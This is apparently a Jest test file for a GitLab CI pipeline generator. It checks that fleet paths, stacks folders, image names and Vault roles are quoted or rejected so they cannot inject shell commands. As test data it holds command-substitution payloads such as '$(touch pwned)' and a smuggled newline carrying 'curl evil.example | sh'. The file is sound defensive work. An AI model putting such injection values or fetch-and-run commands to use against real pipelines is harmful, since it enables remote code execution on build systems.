/**
 * No shell injection through generated job scripts (issue #14, item 3): a fleet path like
 * `infra $(touch pwned);x/` once ran the command. Every script line of the generated pipelines is
 * run by bash with harmless stand-ins for the commands (they print their arguments); nothing the
 * values hold runs, and each value arrives as exactly the argument it was.
 */
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { parse } from 'yaml';
import { generateGitlabPipelines, GitlabPipelineOptions, PipelineInputError } from '../../lib/pipeline/gitlab';
import { cleanup, kommunalInProcess, musterstadtFleet } from './fixtures';

const HAS_BASH = spawnSync('bash', ['-c', 'true']).status === 0;
if (!HAS_BASH) console.warn('bash is not on PATH: the generated script lines are not run');
const withBash = HAS_BASH ? it : it.skip;

/** Stand-ins: each prints `name <arg1> <arg2> ...` on one line and succeeds. */
const STUBS = ['npm', 'npx', 'git', 'vault', 'tfstub']
  .map((name) => `${name}() { printf '%s' ${name}; printf ' <%s>' "$@"; printf '\\n'; }`)
  .join('\n');

/** Every script line of every job of the generated files, in file and job order. */
function scriptLines(options: GitlabPipelineOptions): string[] {
  const g = generateGitlabPipelines(options);
  const lines: string[] = [];
  for (const text of [g.parent.text, ...Object.values(g.children)]) {
    const doc = parse(text) as Record<string, { script?: string[]; before_script?: string[] }>;
    for (const job of Object.values(doc)) {
      // Without `set -e`: the lines of every job run in one shell here, and the redirect of `show
      // -json` into the (literally named, absent) hostile folder fails; test/pipeline/ci-identities
      // checks that each job starts with the shell options.
      if (job && typeof job === 'object') lines.push(...[...(job.before_script ?? []), ...(job.script ?? [])].filter((l) => !l.startsWith('set -')));
    }
  }
  return lines;
}

/** Runs the lines in bash (in a scratch folder, with the stand-ins) and returns what they printed. */
function run(lines: readonly string[]): { stdout: string; files: string[] } {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kommunal-shell-'));
  try {
    const syntax = spawnSync('bash', ['-n', '-c', lines.join('\n')], { encoding: 'utf8' });
    expect(syntax.stderr).toBe('');
    const r = spawnSync('bash', ['-c', `${STUBS}\n${lines.join('\n')}`], {
      cwd: dir,
      encoding: 'utf8',
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', TF_TOOL: 'tfstub', HOME: dir, CI_COMMIT_BEFORE_SHA: 'abc123', VAULT_ID_TOKEN: 'token' },
    });
    const files: string[] = [];
    const walk = (d: string) => {
      for (const e of fs.readdirSync(d, { withFileTypes: true })) {
        if (e.isDirectory()) walk(path.join(d, e.name));
        else files.push(path.relative(dir, path.join(d, e.name)));
      }
    };
    walk(dir);
    return { stdout: r.stdout, files: files.sort() };
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

const HOSTILE_FLEET = 'infra $(touch pwned);x/fleet.yaml';
const HOSTILE_STACKS = "out `touch pwned2` 'q' \"dq\" ; | & $HOME/stacks";
const HOSTILE_IMAGE = "registry/img:1 $(touch pwned3) 'x'";

const base = {
  tenants: [{ key: 'musterstadt', number: 1, vaultRole: 'kommunen-musterstadt-ci' }],
  selected: ['musterstadt'],
  vault: { mount: 'jwt-ci', audience: 'https://gitlab.example.org' },
  stateBackend: 'http' as const,
};

describe('generated GitLab scripts quote every value', () => {
  withBash('runs no command from a hostile fleet path, stacks folder or image, and passes each as one argument', () => {
    const lines = scriptLines({ ...base, fleetFile: HOSTILE_FLEET, stacksDir: HOSTILE_STACKS, image: HOSTILE_IMAGE });
    const { stdout, files } = run(lines);
    // Only the redirect of `show -json` writes a file (into the hostile stacks folder, literally named).
    expect(files.filter((f) => /pwned/.test(f))).toEqual([]);
    expect(files.every((f) => f.endsWith('plan.json'))).toBe(true);
    expect(stdout).toContain(`npx <kommunal> <synth> <--fleet> <${HOSTILE_FLEET}> <--out> <${path.posix.dirname(HOSTILE_STACKS)}>`);
    expect(stdout).toContain(`<--fleet> <${HOSTILE_FLEET}>`);
    expect(stdout).toContain(`<--stacks-dir> <${HOSTILE_STACKS}>`);
    expect(stdout).toContain(`<--image> <${HOSTILE_IMAGE}>`);
    expect(stdout).toContain(`tfstub <-chdir=${HOSTILE_STACKS}/musterstadt> <init> <-input=false>`);
    expect(stdout).toContain(`npx <kommunal> <plan-guard> <${HOSTILE_STACKS}/musterstadt/plan.json> <--stack> <${HOSTILE_STACKS}/musterstadt/cdk.tf.json> <--tenant> <musterstadt> <--fleet> <${HOSTILE_FLEET}>`);
    const login = lines.find((l) => l.startsWith('VAULT_TOKEN='))!;
    expect(run([login, 'printf "%s\\n" "$VAULT_TOKEN"']).stdout).toBe('vault <write> <-field=token> <auth/jwt-ci/login> <role=kommunen-musterstadt-ci> <jwt=token>\n');
  });

  withBash('keeps the default image variable unexpanded in the generate command', () => {
    const lines = scriptLines({ ...base, fleetFile: 'fleet.yaml', image: '$KOMMUNAL_CI_IMAGE' });
    expect(lines.some((l) => l.includes("--image '$KOMMUNAL_CI_IMAGE'"))).toBe(true);
    expect(run(lines).stdout).toContain('<--image> <$KOMMUNAL_CI_IMAGE>');
  });

  it('writes plain paths as before (no quotes where none are needed)', () => {
    const lines = scriptLines({ ...base, fleetFile: 'kommunen/fleet.yaml' });
    expect(lines).toContain('npx kommunal synth --fleet kommunen/fleet.yaml');
    expect(lines).toContain('"$TF_TOOL" -chdir=kommunen/cdktf.out/stacks/musterstadt init -input=false');
  });

  it.each([
    ['a line break in the fleet path', { fleetFile: 'infra\n$(touch pwned)/fleet.yaml' }, /fleet file "infra\\n\$\(touch pwned\)\/fleet.yaml" holds the control character U\+000A at position 6/],
    ['a carriage return in the stacks folder', { fleetFile: 'fleet.yaml', stacksDir: 'out\rx' }, /stacks folder "out\\rx" holds the control character U\+000D/],
    ['an escape sequence in the image', { fleetFile: 'fleet.yaml', image: 'img\u001b[2J' }, /image "img\\u001b\[2J" holds the control character U\+001B/],
    ['a leading "-" in the fleet path', { fleetFile: '--help' }, /fleet file "--help" starts with "-".*\.\/--help/],
    ['a line break in a Vault role', { fleetFile: 'fleet.yaml', tenants: [{ key: 'musterstadt', number: 1, vaultRole: 'r\nx' }] }, /Vault role of tenant "musterstadt" "r\\nx" holds the control character/],
  ])('fails when a value cannot be written into a script line: %s', (_what, override, message) => {
    let error: unknown;
    try {
      generateGitlabPipelines({ ...base, ...override } as GitlabPipelineOptions);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(PipelineInputError);
    expect((error as PipelineInputError).problems.join('\n')).toMatch(message);
  });
});

describe('kommunal pipeline with a value a script line cannot carry', () => {
  let dir: string;
  afterEach(() => cleanup(dir));

  it('fails with exit 2, names the value and writes nothing', async () => {
    dir = musterstadtFleet();
    fs.appendFileSync(path.join(dir, 'fleet.yaml'), 'state:\n  backend: http\n');
    const r = await kommunalInProcess(['pipeline', '--image', 'registry/img:1\ncurl evil.example | sh'], dir);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('image "registry/img:1\\ncurl evil.example | sh" holds the control character U+000A at position 15');
    expect(fs.existsSync(path.join(dir, 'pipelines'))).toBe(false);
  });
});
